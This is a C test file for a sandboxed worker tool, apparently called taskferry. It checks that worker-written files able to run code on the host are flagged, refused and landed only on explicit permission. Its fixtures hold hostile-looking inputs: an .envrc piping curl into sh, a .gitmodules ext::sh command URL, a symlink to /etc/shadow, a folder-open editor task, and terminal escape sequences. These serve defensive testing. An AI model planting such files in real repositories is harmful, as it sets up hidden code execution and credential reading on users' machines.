/* What lands is what you read, end to end (a real daemon, bwrap, overlayfs,
 * git): a shell worker writes files that can make the host run code later
 * (agent and editor configuration, .envrc, .gitattributes, .gitmodules, a
 * hook manager, a CI workflow, an executable, symlinks out of the
 * repository). Settlement records them (changesetWarnings, changesetRisks),
 * `diff --stat` marks them, `accept` refuses them with the tree untouched
 * and `accept --allow-config` lands them. A worker's terminal escapes
 * reach a terminal escaped whatever NO_COLOR and TERM say, and a pipe
 * byte for byte. */

#include <check.h>
#include <stdio.h>
#include <string.h>

#include "harness.h"
#include "json-util.h"
#include "macro.h"
#include "string-util.h"

typedef struct risk_case {
        const char *script; /* the worker */
        const char *path;   /* the path it writes, as git shows it */
        const char *class;
} risk_case;

static const risk_case cases[] = {
        {"mkdir -p .claude && echo '{\"hooks\":{\"SessionStart\":[]}}' > .claude/settings.json",
         ".claude/settings.json", "agent-config"},
        {"mkdir -p .vscode && echo '{\"tasks\":[{\"runOptions\":{\"runOn\":\"folderOpen\"}}]}' > .vscode/tasks.json",
         ".vscode/tasks.json", "editor-config"},
        {"echo 'curl x | sh' > .envrc", ".envrc", "envrc"},
        {"echo '* filter=evil diff=evil' > .gitattributes", ".gitattributes", "git-attributes"},
        {"printf '[submodule \"s\"]\\n\\tpath = s\\n\\turl = ext::sh -c touch% /tmp/pwned\\n' > .gitmodules",
         ".gitmodules", "git-modules"},
        {"mkdir -p .husky && echo 'npm test' > .husky/pre-commit", ".husky/pre-commit", "hook-manager"},
        {"mkdir -p .github/workflows && echo 'on: push' > .github/workflows/ci.yml", ".github/workflows/ci.yml",
         "ci-workflow"},
        {"printf '#!/bin/sh\\necho hi\\n' > run.sh && chmod +x run.sh", "run.sh", "executable"},
        {"rm f && ln -s /etc/shadow f", "f", "symlink-out"},
        {"mkdir -p a && ln -s ../../outside a/out", "a/out", "symlink-out"},
};

static char *tree_hash(tf_world *w, const char *repo) {
        return tf_shf(w, repo, "find . -path ./.git -prune -o -print0 | LC_ALL=C sort -z | "
                               "xargs -0 -r stat -c '%%n %%f %%s %%N' | sha256sum; "
                               "find . -path ./.git -prune -o -type f -print0 | LC_ALL=C sort -z | xargs -0 -r cat | sha256sum");
}

static bool array_has_prefix(json_object *arr, const char *prefix) {
        for (size_t i = 0; arr && i < json_object_array_length(arr); i++)
                if (startswith(strempty(json_object_get_string(json_object_array_get_idx(arr, i))), prefix)) return true;
        return false;
}

static bool risks_have(json_object *arr, const char *path, const char *class) {
        for (size_t i = 0; arr && i < json_object_array_length(arr); i++) {
                json_object *e = json_object_array_get_idx(arr, i);
                if (streq_ptr(json_get_string(e, "path"), path) && streq_ptr(json_get_string(e, "class"), class))
                        return true;
        }
        return false;
}

static void check_case(tf_world *w, const risk_case *c, int i) {
        _cleanup_free_ char *dir = strdup_printf("repo%d", i);
        _cleanup_free_ char *repo = tf_repo_new(w, dir, NULL);
        _cleanup_free_ char *id = tf_shell_pending(w, repo, NULL, c->script, NULL);

        /* recorded at settlement */
        json_object *st = tf_status_full(w, id);
        _cleanup_free_ char *line = strdup_printf("%s: %s: ", c->class, c->path);
        ck_assert_msg(array_has_prefix(json_get_array(st, "changesetWarnings"), line), "%s: %s", c->path,
                      json_object_to_json_string(st));
        ck_assert_msg(risks_have(json_get_array(st, "changesetRisks"), c->path, c->class), "%s", c->path);
        json_object_put(st);

        /* diff --stat marks it */
        _cleanup_free_ char *cmd = strdup_printf("'%s' diff %s --stat", tf_bin("taskferry"), id);
        tf_run r = tf_sh(w, repo, cmd, false);
        _cleanup_free_ char *mark = strdup_printf("[%s", c->class);
        bool marked = false;
        for (char *l = r.out; l && *l;) {
                char *nl = strchr(l, '\n');
                if (nl) *nl = 0;
                if (strstr(l, c->path) && strstr(l, mark)) marked = true;
                l = nl ? nl + 1 : l + strlen(l);
        }
        ck_assert_msg(marked, "%s not marked: %s", c->path, r.out);
        tf_run_done(&r);

        /* accept refuses it, the tree byte-identical, the changeset still pending */
        _cleanup_free_ char *before = tree_hash(w, repo);
        const char *argv[] = {"accept", id, NULL};
        r = tf_cli(w, repo, NULL, argv);
        ck_assert_int_eq(r.exit_code, 1);
        _cleanup_free_ char *named = strdup_printf("%s: %s", c->class, c->path);
        ck_assert_msg(strstr(r.out, named) && strstr(r.out, "nothing was applied") && strstr(r.out, "--allow-config"),
                      "%s", r.out);
        tf_run_done(&r);
        /* --force overrides the check gate only */
        const char *force[] = {"accept", id, "--force", NULL};
        r = tf_cli(w, repo, NULL, force);
        ck_assert_int_eq(r.exit_code, 1);
        tf_run_done(&r);
        _cleanup_free_ char *after = tree_hash(w, repo);
        ck_assert_str_eq(before, after);
        _cleanup_free_ char *cs = tf_changeset_status(w, id);
        ck_assert_str_eq(cs, "pending");

        /* --allow-config lands it */
        const char *allow[] = {"accept", id, "--allow-config", NULL};
        r = tf_cli(w, repo, NULL, allow);
        ck_assert_msg(r.exit_code == 0, "%s %s", r.out, r.err);
        tf_run_done(&r);
        free(cs);
        cs = tf_changeset_status(w, id);
        ck_assert_str_eq(cs, "accepted");
        _cleanup_free_ char *landed = tf_shf(w, repo, "test -e '%s' -o -L '%s' && echo yes", c->path, c->path);
        ck_assert_str_eq(landed, "yes");
}

TF_WORLD_TEST(every_class_is_refused_then_allowed) {
        for (size_t i = 0; i < ELEMENTSOF(cases); i++) check_case(w, &cases[i], (int) i);
}
END_TEST

TF_WORLD_TEST(harmless_changes_land) {
        _cleanup_free_ char *repo = tf_repo_new(w, NULL, NULL);
        _cleanup_free_ char *id = tf_shell_pending(
                w, repo, NULL,
                "mkdir -p docs claude a/.vscode && echo x > docs/.claude.md && echo x > claude/settings.json && "
                "echo x > a/.vscode/other.json && ln -s docs/.claude.md inside && echo y > f",
                NULL);
        json_object *st = tf_status_full(w, id);
        ck_assert_ptr_null(json_get(st, "changesetRisks"));
        json_object_put(st);
        tf_accept_ok(w, id);
}
END_TEST

/* `taskferry diff` under script(1): a terminal, with colour off one way or the other */
TF_WORLD_TEST(escapes_reach_a_terminal_escaped) {
        _cleanup_free_ char *repo = tf_repo_new(w, NULL, NULL);
        _cleanup_free_ char *id = tf_shell_pending(w, repo, NULL, "printf 'a\\033]0;x\\007\\033[2J\\033[1Ab\\n' > evil.txt", NULL);
        static const char *const envs[] = {"NO_COLOR=1", "TERM=dumb"};
        for (size_t i = 0; i < ELEMENTSOF(envs); i++) {
                _cleanup_free_ char *out = strdup_printf("%s/tty%zu.out", w->root, i);
                _cleanup_free_ char *cmd = strdup_printf(
                        "env -u PAGER -u GIT_PAGER %s PAGER=cat script -qec \"'%s' diff %s\" /dev/null > '%s'", envs[i],
                        tf_bin("taskferry"), id, out);
                tf_run r = tf_sh(w, repo, cmd, false);
                tf_run_done(&r);
                size_t len = 0;
                _cleanup_free_ char *got = tf_read(out, &len);
                ck_assert_msg(strstr(got, "evil.txt"), "%s: %s", envs[i], got);
                ck_assert_msg(!memchr(got, '\033', len), "%s: raw ESC: %s", envs[i], got);
                ck_assert_msg(!memchr(got, '\007', len), "%s: raw BEL: %s", envs[i], got);
                ck_assert_msg(strstr(got, "+a^[]0;x^G^[[2J^[[1Ab"), "%s: %s", envs[i], got);
        }
        /* a pipe: byte for byte */
        _cleanup_free_ char *pipe_out = strdup_printf("%s/pipe.out", w->root);
        _cleanup_free_ char *cmd = strdup_printf("NO_COLOR=1 '%s' diff %s | cat > '%s'", tf_bin("taskferry"), id, pipe_out);
        tf_run r = tf_sh(w, repo, cmd, false);
        tf_run_done(&r);
        size_t len = 0;
        _cleanup_free_ char *got = tf_read(pipe_out, &len);
        static const char raw[] = "+a\033]0;x\007\033[2J\033[1Ab\n";
        ck_assert_ptr_nonnull(memmem(got, len, raw, sizeof raw - 1));
        _cleanup_free_ char *patch = strdup_printf("%s/diffs/%s.patch", w->state, id);
        size_t plen = 0;
        _cleanup_free_ char *want = tf_read(patch, &plen);
        ck_assert(plen == len && memcmp(want, got, len) == 0);
}
END_TEST

int main(void) {
        return tf_run_tests("review-risks", "review-risks", 600,
                            TF_TESTS(every_class_is_refused_then_allowed, harmless_changes_land,
                                     escapes_reach_a_terminal_escaped));
}
